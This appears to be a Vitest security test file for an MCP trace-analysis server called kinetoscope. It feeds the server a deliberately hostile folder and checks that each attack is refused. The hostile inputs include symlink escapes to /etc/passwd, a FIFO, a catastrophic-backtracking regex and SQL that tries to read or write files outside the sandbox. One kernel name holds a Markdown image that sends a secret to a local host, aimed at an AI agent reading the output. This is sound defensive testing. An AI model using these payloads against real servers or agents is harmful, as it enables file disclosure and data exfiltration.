/**
 * Issue 35 through the agent's door: `kinetoscope mcp` driven by the SDK's own client over stdio,
 * on a root folder built the way an attacker would ship one (a rank folder whose link points out
 * of the root, a link to /etc/passwd, a FIFO named like a trace, a kernel name built for a
 * backtracking pattern, `world_size: 1e15`, names carrying instructions and Markdown). Each
 * answer is an error line or data from inside the root; the server answers every later call.
 * Calls that never end on their own (SQL over range(1e15)) show the time limit, cancellation and
 * a killed runner.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir, totalmem } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport, getDefaultEnvironment } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UNTRUSTED_NOTE } from '../../src/cli/mcp-tools.js';
import { ensureBuilt } from '../build-once.js';
import { h200Trace } from '../fixtures.js';
import { CLI } from '../helpers/cli.js';

const posix = process.platform !== 'win32';
const base = mkdtempSync(join(tmpdir(), 'ks-mcp-sec-'));
const root = join(base, 'root');
const outside = join(base, 'outside');
/** The server's TMPDIR: DuckDB's private folders appear here while a `sql` call runs. */
const serverTmp = join(base, 'tmp');
const planted = join(base, 'planted.txt');

type Trace = { traceEvents: Record<string, unknown>[]; distributedInfo?: Record<string, unknown> } & Record<string, unknown>;
const linear = (): Trace => JSON.parse(gunzipSync(readFileSync(h200Trace('linear'))).toString());
const withKernels = (name: (k: string) => string, t = linear()): Trace => {
  for (const e of t.traceEvents) if (e['cat'] === 'kernel') e['name'] = name(String(e['name']));
  return t;
};
const kernelCount = linear().traceEvents.filter((e) => e['cat'] === 'kernel').length;

function build(): void {
  mkdirSync(join(root, 'job'), { recursive: true });
  mkdirSync(join(root, 'job3'));
  mkdirSync(join(root, 'ws'));
  mkdirSync(outside);
  mkdirSync(serverTmp);
  const secret = withKernels((k) => `OUTSIDE_SECRET_KERNEL_${k}`);
  secret.distributedInfo = { rank: 0, world_size: 2 };
  writeFileSync(join(outside, 'secret.pt.trace.json'), JSON.stringify(secret));
  writeFileSync(join(root, 'linear.pt.trace.json'), JSON.stringify(linear()));
  const rank1 = linear();
  rank1.distributedInfo = { rank: 1, world_size: 2 };
  writeFileSync(join(root, 'job', 'rank-1.pt.trace.json'), JSON.stringify(rank1));
  symlinkSync(join(outside, 'secret.pt.trace.json'), join(root, 'job', 'rank-0.pt.trace.json'));
  symlinkSync('/etc/passwd', join(root, 'job3', 'rank-0.json'));
  expect(spawnSync('mkfifo', [join(root, 'fifo.json')]).status).toBe(0);
  writeFileSync(join(root, 'redos.json'), JSON.stringify(withKernels(() => `${'a'.repeat(34)}!`)));
  const ws = linear();
  ws.distributedInfo = { rank: 0, world_size: 1e15 };
  writeFileSync(join(root, 'ws', 'rank-0.json'), JSON.stringify(ws));
  const inject = linear();
  for (const e of inject.traceEvents) if (e['name'] === 'linear_fwd') e['name'] = 'linear_fwd` ![x](http://127.0.0.1:8999/md?d=SECRET) `';
  writeFileSync(join(root, 'inject.pt.trace.json'), JSON.stringify(inject));
}

async function connect(...extra: string[]): Promise<{ client: Client; transport: StdioClientTransport }> {
  const client = new Client({ name: 'kinetoscope-security-test', version: '1.0.0' });
  const transport = new StdioClientTransport({ command: process.execPath, args: [CLI, 'mcp', '--root', root, ...extra], stderr: 'pipe', env: { ...getDefaultEnvironment(), TMPDIR: serverTmp } });
  await client.connect(transport);
  return { client, transport };
}

/** The text of an answer, and whether it is an error. */
async function call(client: Client, name: string, args: Record<string, unknown>, signal?: AbortSignal): Promise<{ error: boolean; text: string; doc?: Record<string, unknown> }> {
  const r = await client.callTool({ name, arguments: args }, undefined, { signal, timeout: 600_000 });
  const text = (r.content as { text: string }[])[0]!.text;
  // (explain answers its Markdown; every other tool {document, page})
  const doc = r.isError || name === 'explain' ? undefined : (JSON.parse(text) as { document: Record<string, unknown> }).document;
  return { error: r.isError === true, text, doc };
}

/** A line of Markdown less its code spans (CommonMark: a run of n backticks up to the next run of exactly n). */
function outsideCodeSpans(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`') {
      out += line[i++];
      continue;
    }
    let n = 0;
    while (line[i + n] === '`') n++;
    let end = -1;
    for (let j = i + n; j < line.length; ) {
      if (line[j] !== '`') {
        j++;
        continue;
      }
      let m = 0;
      while (line[j + m] === '`') m++;
      if (m === n) {
        end = j;
        break;
      }
      j += m;
    }
    if (end < 0) {
      out += line.slice(i, i + n);
      i += n;
    } else i = end + n;
  }
  return out;
}

/** The pids of `pid`'s children (Linux's /proc). */
function childrenOf(pid: number): number[] {
  const out: number[] = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
      if (Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) === pid) out.push(Number(d));
    } catch {
      // gone
    }
  }
  return out;
}

const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return !readFileSync(`/proc/${pid}/stat`, 'utf8').slice(readFileSync(`/proc/${pid}/stat`, 'utf8').lastIndexOf(')') + 2).startsWith('Z');
  } catch {
    return false;
  }
};

/** The DuckDB folders of `sql` calls running now (under the runner's own temporary folder, in the server's TMPDIR). */
const duckFolders = () => readdirSync(serverTmp).flatMap((d) => (d.startsWith('kinetoscope-mcp-') ? readdirSync(join(serverTmp, d)).filter((x) => x.startsWith('kinetoscope-duckdb-')) : []));

/** Waits (by polling, no time asserted) until a `sql` call's DuckDB folder exists: the call is running in the runner. */
async function untilSqlRuns(): Promise<void> {
  while (duckFolders().length === 0) await new Promise((r) => setTimeout(r, 20));
}

beforeAll(() => {
  if (posix) build();
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

const NEVER_ENDS = { query: 'SELECT count(*) FROM range(1000000000000000) a', inputs: ['linear.pt.trace.json'], sqlTimeout: '86400' };

describe.skipIf(!posix || process.platform !== 'linux')('kinetoscope mcp against a hostile root', () => {
  let client: Client;
  let transport: StdioClientTransport;
  beforeAll(async () => {
    ensureBuilt();
    ({ client, transport } = await connect());
  });
  afterAll(async () => {
    await client?.close();
  });

  it('every tool says that the strings in its answers are untrusted data, and states the read limits it runs under (from the machine\'s memory, finding 8)', async () => {
    const { tools } = await client.listTools();
    // (the schema tool answers kinetoscope's own schemas: nothing of a trace)
    for (const t of tools) if (t.name !== 'schema') expect(t.description).toContain(UNTRUSTED_NOTE);
    // Half the memory at 160 B an event; the JSON text at twice the memory (docs/agents.md).
    const events = Math.floor(totalmem() / 2 / 160);
    const summary = tools.find((t) => t.name === 'summary')!;
    const props = summary.inputSchema.properties as Record<string, { description: string }>;
    expect(props['maxEvents']!.description).toContain(`(default ${Math.min(events, 1_000_000_000)} in this server, from the machine's memory,`);
    expect(props['maxInputBytes']!.description).toContain(`(default ${2 * totalmem()} in this server, from the machine's memory,`);
  });

  it('a rank folder whose link points out of the root is refused by ranks and sql, never read (finding 2)', async () => {
    for (const [name, args] of [
      ['kernels', { trace: 'job/rank-0.pt.trace.json' }],
      ['ranks', { inputs: ['job'] }],
      ['sql', { query: 'SELECT DISTINCT name FROM kernels', inputs: ['job'] }],
      ['ranks', { inputs: ['job3'] }],
    ] as const) {
      const r = await call(client, name, args);
      expect(r.error, `${name} ${JSON.stringify(args)}: ${r.text}`).toBe(true);
      expect(r.text).toMatch(/is outside the folders this server may read \(through a symbolic link\)/);
      expect(r.text).not.toMatch(/OUTSIDE_SECRET|NOT_JSON|root:/);
    }
  });

  it('a path outside the root answers the same whether it exists or not (no existence oracle)', async () => {
    const exists = await call(client, 'kernels', { trace: join(outside, 'secret.pt.trace.json') });
    const missing = await call(client, 'kernels', { trace: join(outside, 'no-such.pt.trace.json') });
    expect(exists.error && missing.error).toBe(true);
    expect(missing.text).toBe(exists.text.replace('secret.pt.trace.json', 'no-such.pt.trace.json'));
  });

  it('a FIFO named like a trace is refused at once, and the next call is served (finding 4)', async () => {
    const fifo = await call(client, 'kernels', { trace: 'fifo.json', limit: 0 });
    expect(fifo.error).toBe(true);
    expect(fifo.text).toMatch(/FILE_UNREADABLE: .*it is a FIFO \(named pipe\), not a file/);
    const next = await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
    expect(next.error).toBe(false);
  });

  it('backtracking patterns in --match and --what-if are refused like check\'s; an invalid one is one line (findings 4, 9)', async () => {
    const match = await call(client, 'kernels', { trace: 'redos.json', match: '^(a+)+$' });
    expect(match.text).toMatch(/^kinetoscope: BAD_ARGUMENT: --match: "\^\(a\+\)\+\$" is refused: a quantifier on a group that holds a quantifier/);
    const whatIf = await call(client, 'critical-path', { trace: 'redos.json', whatIf: ['^(a+)+$=0.5'] });
    expect(whatIf.text).toMatch(/BAD_ARGUMENT: --what-if '\^\(a\+\)\+\$=0\.5': '\^\(a\+\)\+\$' is refused/);
    const invalid = await call(client, 'kernels', { trace: 'linear.pt.trace.json', match: '(' });
    expect(invalid.text).toMatch(/^kinetoscope: BAD_ARGUMENT: --match: "\(" is not a regular expression/);
  });

  it('world_size 1e15 is ignored with a diagnostic: no crash, no 10^15 missing ranks, the server stays up (finding 3)', async () => {
    const r = await call(client, 'ranks', { inputs: ['ws'], limit: 1_000_000 });
    expect(r.error, r.text).toBe(false);
    expect(r.doc!['worldSize']).toBeNull();
    expect(r.doc!['missingRanks']).toEqual([]);
    const diags = r.doc!['diagnostics'] as { code: string; message: string }[];
    expect(diags.find((d) => d.code === 'IMPLAUSIBLE_DISTRIBUTED_INFO')?.message).toMatch(/world_size 1000000000000000 \(not an integer from 1 to 1048576\)/);
    expect((await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 })).error).toBe(false);
  });

  it('sql cannot read or write outside its sandbox (finding 1)', async () => {
    const read = await call(client, 'sql', { query: "SELECT content FROM read_text('/etc/hostname')", inputs: ['linear.pt.trace.json'] });
    expect(read.text).toMatch(/^kinetoscope: BAD_ARGUMENT: SQL: Permission Error/);
    const write = await call(client, 'sql', { query: `COPY (SELECT 'echo planted') TO '${planted}' (FORMAT csv, HEADER false, QUOTE '', ESCAPE '')`, inputs: ['linear.pt.trace.json'] });
    expect(write.error).toBe(true);
    expect(existsSync(planted)).toBe(false);
    const ok = await call(client, 'sql', { query: 'SELECT count(*) AS n FROM kernels', inputs: ['linear.pt.trace.json'] });
    expect(ok.doc!['rows']).toEqual([[kernelCount]]);
  });

  it('a trace name with backticks and Markdown stays inside its code span in explain\'s sentences (finding 6)', async () => {
    const r = await call(client, 'explain', { trace: 'inject.pt.trace.json', limit: 1_000_000 });
    expect(r.error).toBe(false);
    // (the tool answers explain's Markdown: the name is inside its code span, and nowhere outside one)
    const fenced = '`` linear_fwd` ![x](http://127.0.0.1:8999/md?d=SECRET) ` ``';
    expect(r.text).toContain(fenced);
    for (const line of r.text.split('\n')) expect(outsideCodeSpans(line), line).not.toContain('![x]');
  });

  it('a call killed under the runner (a crash) answers an error; the next call is served by a fresh runner', async () => {
    await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
    const [runner] = childrenOf(transport.pid!);
    expect(runner).toBeDefined();
    const pending = call(client, 'sql', NEVER_ENDS);
    await untilSqlRuns();
    process.kill(runner!, 'SIGKILL');
    const r = await pending;
    expect(r.error).toBe(true);
    expect(r.text).toBe('kinetoscope: CALL_CRASHED: sql stopped the process that runs calls (SIGKILL): no answer; the next call starts a fresh one');
    const next = await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
    expect(next.error).toBe(false);
    expect(childrenOf(transport.pid!)).not.toContain(runner);
    // The killed runner's temporary folder (its DuckDB folder inside) went with it.
    expect(duckFolders()).toEqual([]);
  });

  it('a cancelled call (notifications/cancelled) stops its runner; the next call is served', async () => {
    await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
    const [runner] = childrenOf(transport.pid!);
    const abort = new AbortController();
    const pending = call(client, 'sql', NEVER_ENDS, abort.signal).catch((e: Error) => e);
    await untilSqlRuns();
    abort.abort();
    expect(await pending).toBeInstanceOf(Error);
    while (alive(runner!)) await new Promise((r) => setTimeout(r, 20));
    expect((await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 })).error).toBe(false);
  });
});

describe.skipIf(!posix || process.platform !== 'linux')('kinetoscope mcp --call-timeout', () => {
  let client: Client;
  beforeAll(async () => {
    ensureBuilt();
    // The limit holds every call of the server, the second call's fresh child process included:
    // 30 s leaves that call room on a loaded two-core machine, where 10 s did not.
    ({ client } = await connect('--call-timeout', '30'));
  });
  afterAll(async () => {
    await client?.close();
  });

  it('a call that runs past the limit answers an error; the next call is served', async () => {
    const r = await call(client, 'sql', NEVER_ENDS);
    expect([r.error, r.text]).toEqual([true, 'kinetoscope: CALL_TIMEOUT: sql ran past its time limit (30 s, kinetoscope mcp --call-timeout): stopped, no answer (the server goes on; traces it kept are read again)']);
    const next = await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
    expect(next.error, next.text).toBe(false);
  });
});
